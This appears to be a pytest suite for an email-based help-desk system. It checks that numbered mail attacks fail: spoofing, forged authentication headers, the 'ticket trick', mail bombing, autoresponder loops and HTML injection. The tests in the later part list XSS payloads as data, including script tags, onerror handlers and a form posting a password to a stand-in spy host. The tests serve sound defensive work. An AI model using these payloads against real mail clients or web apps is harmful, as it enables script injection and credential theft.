"""The attacks on help desks that come by mail, each by its number in the list of fifteen."""

import pytest
from tests.channels.email.mails import MEI, SUPPORT, arrive, letter, signed

from octant.channels.email.models import Arrival, Letter, Outgoing
from octant.channels.email.originals import formatted
from octant.core.exchange.proof import Assured
from octant.core.exchange.selectors import exchange
from octant.core.people.models import Customer, User
from octant.core.ports.assurance import Assurance
from octant.core.tickets.assurance import proof_of
from octant.core.tickets.models import Ticket
from octant.core.tickets.reply_address import reply_address, ticket_of_address
from octant.kit.errors import NotAllowed
from octant.kit.mail.reading import read_mail

pytestmark = pytest.mark.django_db


@pytest.fixture
def ticket(customer_user: User) -> Ticket:
    arrive(letter())
    return Ticket.objects.get()


def opened_after(ticket: Ticket) -> Ticket:
    return Ticket.objects.exclude(pk=ticket.pk).get()


def test_attack_01_a_spoofed_registered_from_reads_no_account_data(ticket: Ticket) -> None:
    """Without a signature it is set aside; and even a genuine mail reads nothing of an account."""
    row = arrive(letter("Tell me my balance.").as_bytes(), mail_from="x@bad.example")
    assert row.state == Arrival.State.SUSPENDED
    assert Ticket.objects.count() == 1
    Customer.objects.filter(pk=ticket.customer_id).update(exchange_account="AA12")
    ticket.refresh_from_db()
    proof: Assured = proof_of(ticket)
    assert proof.level == Assurance.VERIFIED_EMAIL
    with pytest.raises(NotAllowed):
        exchange().account("AA12", assurance=proof)


def test_attack_02_reply_to_is_never_who_wrote_nor_where_we_answer(ticket: Ticket) -> None:
    mail = letter("Answer me there.", sender="eve@stranger.example", subject="Hi")
    mail["Reply-To"] = MEI
    arrive(mail)
    theirs = opened_after(ticket)
    assert theirs.customer.email == "eve@stranger.example"
    swapped = signed(letter("Second."))
    swapped = swapped.replace(b"Subject:", b"Reply-To: eve@stranger.example\r\nSubject:", 1)
    arrive(swapped)
    assert not Outgoing.objects.filter(to__startswith="eve", ticket=ticket).exists()
    assert {row.to for row in Outgoing.objects.filter(ticket=ticket)} == {MEI}


@pytest.mark.parametrize("via", ["smtp", "lmtp", "webhook"])
def test_attack_03_a_forged_authentication_results_counts_for_nothing(
    ticket: Ticket, via: str, settings: object
) -> None:
    forged = (
        b"Authentication-Results: mx.kraken.example; dmarc=pass header.from=customers.example;"
        b" dkim=pass header.d=customers.example\r\n"
    )
    raw = forged + letter("Let me in.").as_bytes()
    row = arrive(raw, via=via, mail_from="x@bad.example")
    assert row.verdict == "fail"
    assert Ticket.objects.count() == 1


def test_attack_03_behind_our_border_two_results_that_disagree_are_a_forgery(
    ticket: Ticket, settings: object
) -> None:
    settings.OCTANT_MAIL_AUTHSERV_ID = "mx.kraken.example"  # type: ignore[attr-defined]
    said = "Authentication-Results: mx.kraken.example; dmarc={} header.from=customers.example\r\n"
    raw = (said.format("fail") + said.format("pass")).encode() + letter("In.").as_bytes()
    assert arrive(raw, via="lmtp").verdict == "fail"
    honest = said.format("pass").encode() + letter("Thank you.").as_bytes()
    assert arrive(honest, via="lmtp").verdict == "pass"


def test_attack_04_a_guessed_number_or_key_joins_no_thread(ticket: Ticket) -> None:
    local, _at, domain = reply_address(ticket).rpartition("@")
    guessed = local[:-1] + ("a" if local[-1] != "a" else "b") + "@" + domain
    assert ticket_of_address(guessed) is None
    arrive(
        letter("It is me.", sender="eve@stranger.example", subject=f"Re: {ticket.public_id}"),
        recipients=[guessed, f"support+{ticket.public_id.lower()}@kraken.example"],
    )
    assert ticket.messages.filter(kind="message").count() == 1


def test_attack_05_who_is_in_copy_reads_and_writes_nothing(ticket: Ticket) -> None:
    mail = letter("Adding my friend.", reply_to=f"<{Outgoing.objects.get().mail_id}>")
    mail["Cc"] = "friend@stranger.example"
    arrive(mail)
    arrive(
        letter("What was said so far?", sender="friend@stranger.example"),
        recipients=[reply_address(ticket)],
    )
    assert ticket.messages.filter(kind="message").count() == 2
    theirs = opened_after(ticket)
    assert theirs.customer_id != ticket.customer_id
    to = set(Outgoing.objects.filter(ticket=ticket).values_list("to", flat=True))
    assert to == {MEI}


def test_attack_06_a_third_partys_verification_mail_is_no_message_of_the_ticket(
    ticket: Ticket,
) -> None:
    """The "ticket trick": sign up elsewhere with a ticket's address and read the code there."""
    for automatic in (True, False):
        headers = (("Auto-Submitted", "auto-generated"),) if automatic else ()
        arrive(
            letter(
                "Your sign-up link: https://stranger.example/confirm?code=123456",
                sender="no-reply@stranger.example",
                subject="Confirm your address",
                headers=headers,
            ),
            recipients=[reply_address(ticket)],
        )
    assert ticket.messages.filter(kind="message").count() == 1
    assert opened_after(ticket).customer.email == "no-reply@stranger.example"


def test_attack_07_nobody_is_bombed_with_confirmations(customer_user: User) -> None:
    """Spoofed mails are not answered at all; true ones a few times, whatever they say."""
    for number in range(20):
        arrive(letter(subject=f"S{number}").as_bytes(), mail_from="x@bad.example")
    assert not Outgoing.objects.exists()
    for number in range(20):
        arrive(letter(f"Another thing {number}: {number * 7919}", subject=f"Topic {number}"))
    assert Outgoing.objects.filter(to=MEI).count() == 10
    for number in range(5):
        arrive(
            letter(f"Unproved {number}", sender="bo@lax.example", subject=f"U{number}"),
            mail_from="bo@lax.example",
            peer="192.0.2.1",
        )
    assert Outgoing.objects.filter(to="bo@lax.example").count() == 1


def test_attack_08_two_machines_come_to_an_end(customer_user: User) -> None:
    """An autoresponder that marks nothing answers each mail of ours: it gets one, and stops."""
    arrive(letter("I am away until Monday.", subject="Gone fishing"))
    answered = 0
    while answered < 50:
        ours = Outgoing.objects.order_by("pk")[answered : answered + 1]
        if not ours:
            break
        answered += 1
        arrive(
            letter(
                "I am away until Monday.", subject="Gone fishing", reply_to=f"<{ours[0].mail_id}>"
            )
        )
    assert answered == 1
    marked = letter("Away.", headers=(("Auto-Submitted", "auto-replied"),))
    assert arrive(marked).state == Arrival.State.IGNORED
    own = letter("Hello me.", sender=SUPPORT)
    assert arrive(own.as_bytes()).state == Arrival.State.IGNORED


def test_attack_08_an_automatic_mail_says_so_and_asks_for_silence(customer_user: User) -> None:
    import io

    from octant.core.safety.sealing import unseal

    arrive(letter())
    raw = b"".join(unseal(io.BytesIO(bytes(Outgoing.objects.get().sealed))))
    mail = read_mail(raw)
    assert mail.auto.auto_submitted == "auto-replied"
    assert mail.auto.forbids_answers


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        '<img src="https://spy.example/x.gif" onerror="alert(1)" width="1" height="1">',
        '<a href="javascript:alert(1)">x</a><a href="https://kraken-login.example/">sign in</a>',
        "<svg/onload=alert(1)><math><mtext><style><img src=x onerror=alert(1)></style></mtext>",
        '<form action="https://spy.example/"><input name="password"></form>',
        '<p style="background:url(https://spy.example/)">x</p><base href="//spy.example/">',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe><meta http-equiv=refresh content=0>',
    ],
)
def test_attack_09_a_mails_html_runs_loads_and_asks_nothing(customer_user: User, evil: str) -> None:
    """In the formatted view that agents open; beside it the text is text."""
    arrive(letter("Please look.", html=f"<p>Please <b>look</b>.</p>{evil}"))
    found = Letter.objects.get()
    shown = str(formatted(found).html).lower()
    assert "look" in shown
    tags = ("script", "form", "input", "iframe", "svg", "style", "base", "meta")
    words = ("onerror", "onload", "javascript:", "spy.example", 'href="http', "url(")
    for never in (*(f"<{tag}" for tag in tags), *words):
        assert never not in shown
    assert "<" not in found.message.text


def test_attack_10_names_and_subjects_stay_text(customer_user: User) -> None:
    evil = '<img src=x onerror="alert(1)">'
    arrive(
        letter(
            "Hello",
            sender=f'"{evil}" <{MEI}>'.replace('"alert(1)"', "alert(1)"),
            subject=f"{evil}",
            files=((f"{evil}.txt", "text/plain", b"plain text of a file"),),
        )
    )
    ticket = Ticket.objects.get()
    assert ticket.subject == evil
    told = read_mail(_raw_of_first())
    assert "<img" not in told.html


def _raw_of_first() -> bytes:
    import io

    from octant.core.safety.sealing import unseal

    row = Outgoing.objects.order_by("pk").first()
    assert row is not None
    return b"".join(unseal(io.BytesIO(bytes(row.sealed))))


def test_attack_11_html_and_svg_files_are_never_kept_as_such(customer_user: User) -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    arrive(
        letter(
            html='<p>Hi</p><img src="cid:x"><script>alert(1)</script>',
            files=(
                ("a.svg", "image/svg+xml", svg),
                ("b.html", "text/html", b"<script>alert(1)</script>"),
            ),
        )
    )
    kept = {file.name: file.content_type for file in Ticket.objects.get().files.all()}
    assert set(kept.values()) <= {"text/plain"}
    assert "a.svg" not in kept
